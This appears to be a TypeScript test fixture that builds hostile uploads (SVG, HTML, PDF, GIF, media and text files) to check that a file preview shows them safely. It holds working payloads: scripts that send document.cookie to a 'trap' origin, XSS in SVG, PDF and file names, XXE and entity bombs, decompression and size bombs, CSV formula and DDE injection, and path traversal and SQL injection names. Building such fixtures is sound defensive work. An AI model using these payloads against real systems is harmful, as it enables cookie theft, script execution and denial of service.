import { randomBytes } from 'node:crypto'
import { deflateSync, gzipSync } from 'node:zlib'
import { chunk, png } from './png.ts'
import type { UploadedFile } from './tab.ts'

/** What the preview makes of a file: an element that shows it, or the beginning of the sentence shown instead. */
export type Outcome = 'picture' | 'drawing' | 'text' | 'player' | 'pdf' | { readonly says: string }

export interface HostileFile extends UploadedFile {
  readonly shows: Outcome
}

const DAMAGED: Outcome = { says: 'This is not what its name says' }
const TOO_LARGE: Outcome = { says: 'This picture is too large' }
const UNPLAYABLE: Outcome = { says: 'This browser cannot play it.' }
const NOT_SHOWN: Outcome = { says: 'Files of this kind are not shown here.' }

/** A picture that shows. */
export const PICTURE = png(2, 1, Buffer.from([0, 255, 0, 0, 0, 0, 255]))

const u16 = (value: number): number[] => [value & 255, value >> 8]
const u32 = (value: number): Buffer => {
  const bytes = Buffer.alloc(4)
  bytes.writeUInt32BE(value >>> 0)
  return bytes
}
const latin1 = (text: string): Buffer => Buffer.from(text, 'latin1')

/** A GIF of frames that each are one pixel of data, whatever they declare. */
function gif(screen: readonly [number, number], frame: readonly [number, number], frames = 1, comment = ''): Buffer {
  const extension = comment === '' ? [] : [0x21, 0xfe, comment.length, ...latin1(comment), 0]
  const pause = [0x21, 0xf9, 4, 0, 0, 0, 0, 0]
  const picture = [0x2c, 0, 0, 0, 0, ...u16(frame[0]), ...u16(frame[1]), 0, 2, 2, 0x44, 1, 0]
  const each = Buffer.from([...pause, ...picture])
  const head = [...latin1('GIF89a'), ...u16(screen[0]), ...u16(screen[1]), 0x80, 0, 0, 0, 0, 0, 255, 255, 255]
  return Buffer.concat([Buffer.from([...head, ...extension]), ...Array<Buffer>(frames).fill(each), Buffer.of(0x3b)])
}

/** A box of ISO media: MP4, AVIF, HEIC. */
function box(type: string, ...content: (Buffer | string)[]): Buffer {
  const body = Buffer.concat(content.map((part) => (typeof part === 'string' ? latin1(part) : part)))
  return Buffer.concat([u32(body.length + 8), latin1(type), body])
}

function nested(depth: number): Buffer {
  let inner = box('free')
  for (let at = 0; at < depth; at += 1) inner = box('moov', inner)
  return inner
}

function svg(body: string, head = ''): Buffer {
  const names = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
  return Buffer.from(`${head}<svg ${names} width="40" height="40">${body}</svg>`)
}

/** Ten to the power of `depth` shapes, in a kilobyte. */
function usesOfUses(depth: number): string {
  const levels = Array.from(
    { length: depth },
    (_, at) => `<g id="a${at + 1}">${`<use href="#a${at}"/>`.repeat(10)}</g>`,
  )
  return `<defs><rect id="a0" width="9" height="9"/>${levels.join('')}</defs><use href="#a${depth}"/>`
}

/** Entities of entities. */
function laughs(): string {
  const entities = Array.from({ length: 9 }, (_, at) => `<!ENTITY a${at + 1} "${`&a${at};`.repeat(10)}">`)
  return `<!DOCTYPE svg [<!ENTITY a0 "lol">${entities.join('')}]>`
}

/**
 * Files that try to run something, to tell somebody, or to keep the page busy.
 *
 * @param trap - origin that must hear nothing
 */
export function hostileFiles(trap: string): HostileFile[] {
  /** Names the page, shows itself, goes elsewhere and tells: whichever of it succeeds would be noticed. */
  const script = [
    'window.owned=1;try{top.owned=1;parent.document.title="owned"}catch(e){}',
    'document.title="owned"',
    `fetch("${trap}/owned?"+encodeURIComponent(document.cookie))`,
    `navigator.sendBeacon("${trap}/owned")`,
    `new Image().src="${trap}/owned"`,
    'fetch("/v1/info?owned")',
    `open("${trap}/owned")`,
    'alert("owned")',
    `top.location="${trap}/owned"`,
  ].join(';')
  const quoted = script.replaceAll('"', '&quot;')
  const page = `<!doctype html><base href="${trap}/"><meta http-equiv="refresh" content="0;url=${trap}/owned"><script>${script}</script><img src="owned" onerror="${quoted}"><iframe srcdoc="<script>${quoted}</script>"></iframe><iframe src="javascript:${quoted}"></iframe><form action="${trap}/owned" method="post"><input name="x" autofocus onfocus="${quoted}"></form><link rel="stylesheet" href="${trap}/owned"><object data="${trap}/owned"></object><svg onload="${quoted}"></svg>`
  const drawing = svg(
    `<script>${script}</script><script href="${trap}/owned"/><image href="${trap}/owned" onerror="${quoted}"/><image href="/v1/info?owned"/><foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:${quoted}"/><img xmlns="http://www.w3.org/1999/xhtml" src="${trap}/owned"/></foreignObject><use href="${trap}/owned#x"/><a xlink:href="javascript:${quoted}"><rect width="40" height="40"><animate attributeName="href" values="javascript:${quoted}" begin="0s" onbegin="${quoted}"/><set attributeName="onload" to="${quoted}"/></rect></a><style>@import url("${trap}/owned");rect{fill:url("${trap}/owned#x");cursor:url("${trap}/owned"),auto}@font-face{font-family:x;src:url("${trap}/owned")}text{font-family:x}</style><text>x</text>`,
    `<?xml version="1.0"?><?xml-stylesheet href="${trap}/owned"?><!DOCTYPE svg [<!ENTITY x SYSTEM "${trap}/owned">]>`,
  )
  const framed = drawing.toString().replace('<svg ', `<svg onload="${quoted}" `)
  const id3 = (text: string): Buffer => {
    const body = Buffer.concat([latin1('TIT2'), u32(text.length + 1), Buffer.of(0, 0, 3), Buffer.from(text)])
    return Buffer.concat([latin1('ID3'), Buffer.of(3, 0, 0, 0, 0, body.length >> 7, body.length & 127), body])
  }
  const comment = Buffer.from(page.slice(0, 3_000))
  const jpegComment = Buffer.concat([
    Buffer.of(0xff, 0xfe, (comment.length + 2) >> 8, (comment.length + 2) & 255),
    comment,
  ])
  const hugeJpeg = Buffer.from('ffc0001108fffffff f03011100021100031100'.replaceAll(' ', ''), 'hex')
  const bmp = Buffer.alloc(64)
  bmp.write('BM', 'latin1')
  bmp.writeUInt32LE(40, 14)
  bmp.writeInt32LE(-2_000_000_000, 18)
  bmp.writeInt32LE(2_000_000_000, 22)
  const profile = Buffer.concat([Buffer.from('x\0\0'), deflateSync(Buffer.alloc(20_000_000))])
  const bombs = [PICTURE.subarray(0, 33), chunk('iCCP', profile), chunk('zTXt', profile), PICTURE.subarray(33)]
  const playlist = `#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="${trap}/owned"\n#EXTINF:1,\n${trap}/owned.ts\n`
  const pdf = `%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(${script})>>/AA<</O<</S/URI/URI(${trap}/owned)>>>>>>endobj`
  const text = (name: string, content: string | Buffer): HostileFile => ({
    name,
    bytes: typeof content === 'string' ? Buffer.from(content) : content,
    shows: 'text',
  })
  return [
    // Pictures that are programs.
    { name: 'script.svg', bytes: drawing, shows: 'drawing' },
    { name: 'onload.svg', bytes: Buffer.from(framed), shows: 'drawing' },
    { name: 'laughs.svg', bytes: svg('<text>&a9;</text>', laughs()), shows: 'drawing' },
    { name: 'uses of uses.svg', bytes: svg(usesOfUses(9)), shows: 'drawing' },
    {
      name: 'selectors.svg',
      bytes: svg(
        `<style>${'g *:not(:has(~rect~rect~path))~*{fill:red}'.repeat(50)}</style><g>${'<rect/>'.repeat(5_000)}</g>`,
      ),
      shows: 'drawing',
    },
    { name: 'squeezed.svg', bytes: gzipSync(drawing), shows: DAMAGED },
    { name: 'page.svg', bytes: Buffer.from(page), shows: DAMAGED },
    // Pictures that are pages, or that are both.
    { name: 'page.png', bytes: Buffer.from(page), shows: DAMAGED },
    { name: 'picture and page.png', bytes: Buffer.concat([PICTURE, Buffer.from(page)]), shows: 'picture' },
    {
      name: 'picture and script.gif',
      bytes: Buffer.concat([latin1('GIF89a/*'), gif([2, 2], [2, 2]).subarray(8), latin1(`*/=1;${script}`)]),
      shows: 'picture',
    },
    { name: 'comment.gif', bytes: gif([1, 1], [1, 1], 1, page.slice(0, 250)), shows: 'picture' },
    { name: 'comment.jpg', bytes: Buffer.concat([Buffer.of(0xff, 0xd8), jpegComment, hugeJpeg]), shows: TOO_LARGE },
    // Pictures that are too much.
    { name: '50,000 by 50,000.png', bytes: png(50_000, 50_000, Buffer.alloc(1_000_000)), shows: TOO_LARGE },
    { name: 'a thousand to one.png', bytes: png(3_000, 3_000, Buffer.alloc(3_000 * 9_001)), shows: 'picture' },
    { name: 'more than it says.png', bytes: png(10, 10, Buffer.alloc(20_000_000)), shows: 'picture' },
    { name: 'profile.png', bytes: Buffer.concat(bombs), shows: 'picture' },
    { name: 'wide frame.gif', bytes: gif([1, 1], [60_000, 60_000]), shows: TOO_LARGE },
    { name: 'frames.gif', bytes: gif([2, 2], [2, 2], 20_000), shows: 'picture' },
    { name: 'negative.bmp', bytes: bmp, shows: TOO_LARGE },
    { name: 'icon.ico', bytes: Buffer.from([0, 0, 1, 0, 255, 255, ...Array<number>(80).fill(255)]), shows: NOT_SHOWN },
    {
      name: 'boxes.avif',
      bytes: Buffer.concat([
        box('ftyp', 'avif\0\0\0\0avif'),
        box('meta', '\0\0\0\0', box('ispe', '\0\0\0\0', u32(2 ** 31), u32(2 ** 31))),
      ]),
      shows: TOO_LARGE,
    },
    {
      name: 'canvas.webp',
      bytes: Buffer.concat([latin1('RIFF\0\0\0\0WEBPVP8X\x0a\0\0\0\0\0\0\0'), Buffer.alloc(6, 255)]),
      shows: TOO_LARGE,
    },
    // Pages and scripts by any name.
    text('page.html', page),
    text('page.txt', page),
    text(
      'page.xml',
      `<?xml-stylesheet href="${trap}/owned"?><html xmlns="http://www.w3.org/1999/xhtml"><script>${script}</script></html>`,
    ),
    text('laughs.xml', `${laughs()}<svg>&a9;</svg>`),
    text('module.mjs', `import "${trap}/owned";${script}`),
    text('worker.js', `self.onfetch=(e)=>e.respondWith(new Response("owned"));importScripts("${trap}/owned")`),
    text('formula.csv', `=HYPERLINK("${trap}/owned","x"),=cmd|'/C calc'!A0,+1+1,@SUM(1)\n`),
    text('style.css', `@import "${trap}/owned";*{background:url(${trap}/owned)}`),
    text('subtitles.vtt', `WEBVTT\n\n00:00.000 --> 00:09.000\n<script>${script}</script>\n`),
    {
      name: 'mail.mhtml',
      bytes: Buffer.from(`MIME-Version: 1.0\nContent-Type: text/html\n\n${page}`),
      shows: NOT_SHOWN,
    },
    {
      name: 'page.xhtml',
      bytes: Buffer.from(`<html xmlns="http://www.w3.org/1999/xhtml"><script>${script}</script></html>`),
      shows: NOT_SHOWN,
    },
    { name: 'app.webmanifest', bytes: Buffer.from(`{"start_url":"${trap}/owned","name":"owned"}`), shows: NOT_SHOWN },
    { name: 'module.wasm', bytes: Buffer.concat([latin1('\0asm\x01\0\0\0'), randomBytes(200)]), shows: NOT_SHOWN },
    { name: 'font.woff2', bytes: Buffer.concat([latin1('wOF2'), Buffer.alloc(200, 255)]), shows: NOT_SHOWN },
    { name: 'shortcut.url', bytes: Buffer.from(`[InternetShortcut]\r\nURL=${trap}/owned\r\n`), shows: NOT_SHOWN },
    // Texts that take long to lay out.
    text('one line.txt', 'x'.repeat(2_000_000)),
    text('accents.txt', `a${'\u0301'.repeat(400_000)}`),
    text('directions.txt', '\u202ea\u202c\u05d01 '.repeat(80_000)),
    text('terminal.log', '\u001b[31m\u0007\u0008\u001b]0;owned\u0007'.repeat(30_000)),
    text('lines.txt', '\n'.repeat(600_000)),
    { name: 'sixteen.html', bytes: Buffer.from(`\ufeff${page}`, 'utf16le'), shows: DAMAGED },
    // Films and sounds.
    { name: 'page.mp4', bytes: Buffer.from(page), shows: UNPLAYABLE },
    {
      name: 'boxes.mp4',
      bytes: Buffer.concat([box('ftyp', 'isom'), nested(2_000), u32(1), latin1('moov'), Buffer.alloc(8, 255)]),
      shows: UNPLAYABLE,
    },
    { name: 'playlist.mp4', bytes: Buffer.from(playlist), shows: UNPLAYABLE },
    { name: 'title.mp3', bytes: Buffer.concat([id3(page.slice(0, 2_000)), Buffer.alloc(500, 170)]), shows: UNPLAYABLE },
    {
      name: 'sizes.webm',
      bytes: Buffer.from(`1a45dfa301ffffffffffffff18538067${'01ffffffffffffff'.repeat(9)}`, 'hex'),
      shows: UNPLAYABLE,
    },
    {
      name: 'endless.wav',
      bytes: Buffer.concat([latin1('RIFF\xff\xff\xff\xffWAVEfmt \xff\xff\xff\xff'), Buffer.alloc(40, 255)]),
      shows: UNPLAYABLE,
    },
    { name: 'script.pdf', bytes: Buffer.from(pdf), shows: 'pdf' },
    { name: 'page.pdf', bytes: Buffer.from(page), shows: 'pdf' },
    // Names.
    ...HOSTILE_NAMES.map((name): HostileFile => ({ name, bytes: Buffer.from(page), shows: outcomeOf(name) })),
  ]
}

function outcomeOf(name: string): Outcome {
  if (/\.png$/.test(name)) return DAMAGED
  return /\.(txt|html)$/.test(name) ? 'text' : NOT_SHOWN
}

export const HOSTILE_NAMES: readonly string[] = [
  '\u202egnp.exe',
  'report\u202e\u2066fdp.txt',
  '<img src=x onerror=alert(1)>.png',
  '"><script>alert(1)<.txt',
  "'; DROP TABLE blobs; --.txt",
  '..\\..\\windows.txt',
  '%2e%2e%2f%00.txt',
  'javascript:alert(1).html',
  'data:text,owned.html',
  'CON',
  'aux.txt',
  '__proto__',
  'm.constructor',
  'line one\nline two.txt',
  'zero\u200bwidth\ufeff.txt',
  ' spaces and dots . . .txt',
  '{{7*7}}#{7*7}.txt',
  `${'long '.repeat(49)}.txt`,
  '\u{1F468}\u200D\u{1F469}\u200D\u{1F467}.txt',
  '-rf .txt',
]
